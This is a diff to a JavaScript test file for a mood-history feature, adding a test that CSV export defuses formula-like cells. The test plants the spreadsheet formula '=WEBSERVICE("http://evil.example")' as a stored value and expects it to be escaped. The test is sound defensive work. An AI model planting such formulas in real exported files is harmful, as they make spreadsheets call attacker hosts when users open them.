@@ -41,6 +41,9 @@ describe('mood history', () => {
     const kept = historyEntryOf(reading);
     expect(Object.keys(kept).sort()).toEqual(['at', 'emotion', 'faces', 'probabilities', 'source']);
     expect(historyToCsv([kept]).split('\n')[1]).toBe('2026-11-27T12:00:00.000Z,happy,0.01,0,0.02,0.9,0.03,0.01,0.03,1,camera');
+    // A stored row is not trusted to be harmless in a spreadsheet: a formula-like cell is defused.
+    const planted = { ...kept, source: '=WEBSERVICE("http://evil.example")' as never };
+    expect(historyToCsv([planted]).split('\n')[1]).toMatch(/,"'=WEBSERVICE\(""http:\/\/evil\.example""\)"$/u);
   });
 
   it('stores readings in IndexedDB, skips corrupted rows, and "erase everything" empties it', async () => {
